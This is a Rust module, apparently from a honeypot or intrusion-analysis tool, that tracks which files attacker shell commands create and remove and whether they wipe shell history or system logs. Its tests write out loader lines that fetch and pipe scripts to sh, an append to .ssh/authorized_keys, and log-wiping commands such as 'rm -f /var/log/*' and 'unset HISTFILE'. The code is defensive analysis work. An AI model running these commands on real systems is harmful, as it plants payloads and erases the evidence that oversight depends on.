//! What commands leave behind: the files they make and remove, and the traces they wipe.
//!
//! A file is made by what fetches it, by a `>` into it, and by `chmod +x`, which also tells of files
//! that came another way. The folder that a script is in is not followed: a file is removed by an `rm`
//! of the same name, of a pattern that it fits, or of a folder that it was said to lie in. What was
//! removed before it was made (the loaders' `rm -f x; wget …/x`) is there.

use crate::shell::Call;

/// Files of a session that are followed; a session that makes more has not removed them all.
const FILES_MAX: usize = 256;
/// Settings that keep a shell from remembering.
const FORGETTING: &[&str] = &["HISTFILE=/dev/null", "HISTSIZE=0", "HISTFILESIZE=0"];

/// What a command does to what it would leave behind.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Act {
    /// This file is there now.
    Made(Box<str>),
    /// This file, or what fits this pattern, is gone.
    Removed(Box<str>),
    /// The shell's memory or the system's log is gone.
    Wiped,
}

impl Act {
    /// What a command line does, in its order.
    pub(super) fn of(input: &str, calls: &[Call<'_>]) -> Box<[Self]> {
        let mut acts = Vec::new();
        if FORGETTING.iter().any(|setting| input.contains(setting)) {
            acts.push(Self::Wiped);
        }
        for call in calls {
            match call.names().next_back().unwrap_or("") {
                "rm" | "unlink" | "shred" => acts.extend(paths(call).map(Self::removed)),
                "truncate" | "ln" if call.arguments().any(is_trace) => acts.push(Self::Wiped),
                "history" if call.arguments().any(clears) => acts.push(Self::Wiped),
                "unset" if call.arguments().any(|word| word == "HISTFILE") => {
                    acts.push(Self::Wiped);
                }
                "chmod" => acts.extend(executable(call).filter_map(Self::made)),
                "wget" | "curl" | "tftp" | "ftpget" => {
                    acts.extend(fetched(call).and_then(Self::made));
                }
                _ => {}
            }
            acts.extend(call.outputs.iter().filter_map(|path| Self::made(path)));
        }
        acts.into_boxed_slice()
    }

    fn removed(path: &str) -> Self {
        if is_trace(path) { Self::Wiped } else { Self::Removed(path.into()) }
    }

    /// Writing: over a trace, it wipes that.
    fn made(path: &str) -> Option<Self> {
        if is_trace(path) {
            return Some(Self::Wiped);
        }
        is_file(path).then(|| Self::Made(path.into()))
    }
}

/// The words of a call that are no options.
fn paths<'a>(call: &Call<'a>) -> impl Iterator<Item = &'a str> {
    call.arguments().filter(|word| !word.starts_with('-'))
}

fn base(path: &str) -> &str {
    let path = path.trim_end_matches('/');
    path.rsplit('/').next().unwrap_or(path)
}

/// Whether a path names one file: no device, no variable, no pattern.
fn is_file(path: &str) -> bool {
    let is_device = path.starts_with("/dev/") && !path.starts_with("/dev/shm/");
    !is_device && !path.contains(['*', '$', '?']) && !matches!(base(path), "" | "-" | "." | "..")
}

/// Whether a path is the memory of a shell or a log of the system.
fn is_trace(path: &str) -> bool {
    path.starts_with("/var/log") || path.ends_with("/utmp") || base(path).ends_with("_history")
}

/// Whether an option of `history` clears it.
fn clears(option: &str) -> bool {
    option.starts_with('-') && option.contains('c')
}

/// The files that a `chmod` makes executable.
fn executable<'a>(call: &Call<'a>) -> impl Iterator<Item = &'a str> {
    let mut words = paths(call);
    let executes = words.next().is_some_and(|mode| {
        if mode.bytes().all(|byte| byte.is_ascii_digit()) {
            return mode.bytes().rev().take(3).any(|digit| digit % 2 == 1);
        }
        mode.contains(['+', '=']) && mode.ends_with('x')
    });
    words.filter(move |_| executes)
}

/// The file that a call fetches, if it puts what it fetches into one.
fn fetched<'a>(call: &Call<'a>) -> Option<&'a str> {
    let words: Vec<&'a str> = call.arguments().collect();
    let behind = |options: &[&str]| {
        let at = words.iter().position(|word| options.contains(word))?;
        words.get(at + 1).copied()
    };
    match call.names().next_back()? {
        "wget" if words.iter().any(|word| word.starts_with("-O") && *word != "-O") => {
            words.iter().find_map(|word| word.strip_prefix("-O")).filter(|name| !name.is_empty())
        }
        "wget" => behind(&["-O", "-qO", "--output-document"]).or_else(|| remote_name(call)),
        "curl" => behind(&["-o", "-so", "-sSo", "--output"]).or_else(|| {
            words.iter().any(|word| keeps_name(word)).then(|| remote_name(call)).flatten()
        }),
        "tftp" => behind(&["-l"]).or_else(|| behind(&["-r", "get"])),
        // `ftpget [options] host local [remote]`, where three options have a word of their own.
        _ => {
            let is_option = |at: usize| {
                let before = at.checked_sub(1).and_then(|before| words.get(before));
                before.is_some_and(|word| matches!(*word, "-u" | "-p" | "-P"))
                    || words.get(at).is_some_and(|word| word.starts_with('-'))
            };
            let mut names = words.iter().enumerate().filter(|(at, _)| !is_option(*at));
            names.nth(1).map(|(_, word)| *word)
        }
    }
}

/// The name that a fetched file has at the other end; none if a folder is fetched.
fn remote_name<'a>(call: &Call<'a>) -> Option<&'a str> {
    let url = paths(call).find(|word| word.contains('/'))?;
    let (_, place) = url.split_once("://").unwrap_or(("", url));
    let place = place.split('?').next().unwrap_or(place);
    place.rsplit_once('/').map(|(_, name)| name)
}

/// Whether an option of `curl` keeps the name that the file has there: `-O`, `-sO`, `--remote-name`.
fn keeps_name(word: &str) -> bool {
    word == "--remote-name"
        || (word.starts_with('-') && !word.starts_with("--") && word.contains('O'))
}

/// What is left, as far as a session has come.
#[derive(Debug, Default)]
pub(super) struct Cleanup {
    /// Each file that was made, and whether it is there.
    files: Vec<(Box<str>, bool)>,
    /// Whether more were made than are followed.
    is_overflown: bool,
    removed: usize,
    wiped: usize,
}

impl Cleanup {
    /// Adds what is done next.
    pub(super) fn push(&mut self, act: &Act) {
        match act {
            Act::Wiped => self.wiped += 1,
            Act::Removed(pattern) => {
                for (path, is_there) in &mut self.files {
                    if *is_there && covers(pattern, path) {
                        *is_there = false;
                        self.removed += 1;
                    }
                }
            }
            Act::Made(path) => {
                let is_full = self.files.len() >= FILES_MAX;
                match self.files.iter_mut().find(|(known, _)| base(known) == base(path)) {
                    Some((_, is_there)) => *is_there = true,
                    None if is_full => self.is_overflown = true,
                    None => self.files.push((path.clone(), true)),
                }
            }
        }
    }

    /// What that is called, and on how much it rests.
    pub(super) fn sample(&self) -> Option<(&'static str, usize)> {
        let is_left = self.is_overflown || self.files.iter().any(|(_, is_there)| *is_there);
        let value = match (self.wiped > 0, is_left) {
            (true, false) => "thorough",
            (false, true) if self.removed == 0 => "none",
            _ => "partial",
        };
        let count = self.files.len() + self.wiped;
        (count > 0).then_some((value, count))
    }
}

/// Whether removing `pattern` removes the file at `path`.
fn covers(pattern: &str, path: &str) -> bool {
    let inside = path.strip_prefix(pattern.trim_end_matches('/'));
    if inside.is_some_and(|rest| rest.starts_with('/')) {
        return true;
    }
    let (pattern, name) = (base(pattern), base(path));
    match pattern.split_once('*') {
        Some((start, end)) => {
            let end = end.rsplit('*').next().unwrap_or(end);
            name.len() >= start.len() + end.len() && name.starts_with(start) && name.ends_with(end)
        }
        None => pattern == name,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell;

    fn cleanup(line: &str) -> Option<(&'static str, usize)> {
        let mut cleanup = Cleanup::default();
        Act::of(line, &shell::calls(line)).iter().for_each(|act| cleanup.push(act));
        cleanup.sample()
    }

    fn made(line: &str) -> Vec<String> {
        let acts = Act::of(line, &shell::calls(line));
        let made = acts.iter().filter_map(|act| match act {
            Act::Made(path) => Some(path.to_string()),
            _ => None,
        });
        made.collect()
    }

    #[test]
    fn a_file_is_made_by_what_fetches_writes_or_enables_it() {
        for (line, expected) in [
            ("wget http://198.51.100.7/bins.sh", "bins.sh"),
            ("wget -q http://198.51.100.7/a?b=c", "a"),
            ("wget http://198.51.100.7/a -O /tmp/b", "/tmp/b"),
            ("busybox wget 198.51.100.7/x", "x"),
            ("curl -sO http://198.51.100.7/c", "c"),
            ("curl -o d http://198.51.100.7/c", "d"),
            ("tftp -g -r t.sh 198.51.100.7", "t.sh"),
            ("tftp 198.51.100.7 -c get t.sh", "t.sh"),
            ("ftpget -v -u anonymous -p x -P 21 198.51.100.7 f.sh g.sh", "f.sh"),
            ("echo x >> .ssh/authorized_keys", ".ssh/authorized_keys"),
            ("echo x > /dev/shm/y", "/dev/shm/y"),
            ("chmod +x u", "u"),
            ("chmod 0755 u", "u"),
            ("chmod -R 777 u", "u"),
            ("chmod a+rwx u", "u"),
        ] {
            assert_eq!(made(line), [expected], "{line}");
        }
    }

    #[test]
    fn what_goes_nowhere_or_somewhere_unknown_is_no_file() {
        for line in [
            "wget -O- http://198.51.100.7/x | sh",
            "wget -O - http://198.51.100.7/x",
            "wget http://198.51.100.7/x -O /dev/null",
            "wget http://198.51.100.7/",
            "wget 198.51.100.7",
            "curl http://198.51.100.7/x",
            "cat /proc/cpuinfo > /dev/null 2>&1",
            "chmod 644 x",
            "chmod 777 *",
            "echo x > $f",
            "wget",
            "ftpget",
        ] {
            assert_eq!(made(line), [""; 0], "{line}");
        }
    }

    #[test]
    fn who_leaves_all_has_not_cleaned() {
        assert_eq!(cleanup("wget http://h.test/x; chmod 777 x; ./x"), Some(("none", 1)));
        assert_eq!(cleanup("rm -f x; wget http://h.test/x"), Some(("none", 1)), "stale files");
        assert_eq!(cleanup("wget http://h.test/x; rm -rf y"), Some(("none", 1)));
    }

    #[test]
    fn who_removes_some_has_cleaned_in_part() {
        for line in [
            "wget http://h.test/x; sh x; rm -rf x",
            "wget http://h.test/x -O /tmp/x; cd /tmp; rm x",
            "cd /tmp; wget http://h.test/x; rm -rf /tmp/*",
            "echo a > /tmp/d/x; rm -rf /tmp/d",
            "wget http://h.test/x; history -c",
        ] {
            assert_eq!(cleanup(line).unwrap().0, "partial", "{line}");
        }
        assert_eq!(cleanup("echo a > x; echo b > y; rm x"), Some(("partial", 2)));
        assert_eq!(cleanup("echo a > x; echo b > x.sh; rm *.sh; history -c"), Some(("partial", 3)));
    }

    #[test]
    fn who_removes_all_and_wipes_the_traces_is_thorough() {
        for traces in [
            "history -c",
            "history -cw",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "HISTSIZE=0",
            "rm -rf ~/.bash_history",
            "> ~/.bash_history",
            "ln -sf /dev/null ~/.bash_history",
            "echo > /var/log/wtmp",
            "cat /dev/null > /var/log/lastlog",
            "rm -f /var/log/*",
            ">/var/run/utmp",
        ] {
            assert_eq!(cleanup(traces), Some(("thorough", 1)), "{traces}");
            let line = format!("{traces}; wget http://h.test/x; rm x");
            assert_eq!(cleanup(&line), Some(("thorough", 2)), "{line}");
        }
    }

    #[test]
    fn without_anything_to_clean_there_is_no_sample() {
        for line in [
            "",
            "uname -a",
            "rm -rf x",
            "history",
            "unset x",
            "cat ~/.bash_history",
            "ls 2>/dev/null",
        ] {
            assert_eq!(cleanup(line), None, "{line}");
        }
    }

    #[test]
    fn more_files_than_are_followed_are_not_all_removed() {
        let write = |count: usize| (0..count).map(|at| format!("echo>f{at};")).collect::<String>();
        let line = |count| format!("{}rm *; history -c", write(count));
        assert_eq!(cleanup(&line(FILES_MAX)).unwrap().0, "thorough");
        assert_eq!(cleanup(&line(FILES_MAX + 1)).unwrap().0, "partial");
    }
}
